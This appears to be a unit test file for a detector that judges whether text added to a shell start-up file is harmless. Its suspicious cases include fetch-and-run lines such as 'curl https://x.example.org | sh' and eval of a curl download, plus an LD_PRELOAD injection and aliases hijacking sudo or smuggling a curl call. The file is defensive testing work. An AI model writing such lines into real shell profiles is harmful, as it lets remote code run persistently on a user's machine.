import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isHarmlessStartUp } from '../../../engine/detect/paths/startUpText.ts';

describe('text for a shell start-up file', () => {
  const harmless = [
    'export PATH=$PATH:/usr/local/go/bin',
    'export PATH="$PATH:$HOME/.local/bin"',
    'PATH="${PATH}:/opt/tool/bin:~/.cargo/bin"\nexport LANG=en_US.UTF-8',
    'export PATH="$HOME/.local/bin:$PATH"',
    'eval "$(starship init zsh)"\neval "$(/opt/homebrew/bin/brew shellenv)"',
    'source <(kubectl completion bash)',
    '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    '. "$HOME/.cargo/env"',
    'alias gs=\'git status\'\nalias k="kubectl"',
    '# Go\nexport GOPATH=$HOME/go\n\nexport PATH=$PATH:$GOPATH/bin # and its programs',
  ];
  for (const text of harmless)
    it(`is harmless: ${text.slice(0, 50)}`, () => assert.equal(isHarmlessStartUp(text), true));

  const telling = [
    'export PATH=/opt/tool/bin:$PATH',
    'export PATH=$PATH:/tmp/bin',
    'export PATH=$PATH:$HOME/.cache/x',
    'export PATH=$PATH:/usr/bin; curl https://x.example.org | sh',
    'export PATH="$PATH:$(curl x)"',
    'export JAVA_HOME=/tmp/jdk',
    'export LD_PRELOAD=/usr/lib/x.so',
    'export EDITOR=/home/dev/x',
    "alias sudo='/tmp/s'",
    'source ~/x.sh',
    'eval "$(curl -s x.example.org)"',
    'eval "$(starship init zsh; curl x.example.org)"',
    'eval "$(starship init zsh)"; /home/dev/x',
    "alias gs='git status; curl x.example.org'",
    "alias ssh='git status'",
    '[ -s ~/.x ] && . ~/.x',
    '',
  ];
  for (const text of telling) it(`is not: ${text.slice(0, 50)}`, () => assert.equal(isHarmlessStartUp(text), false));
});
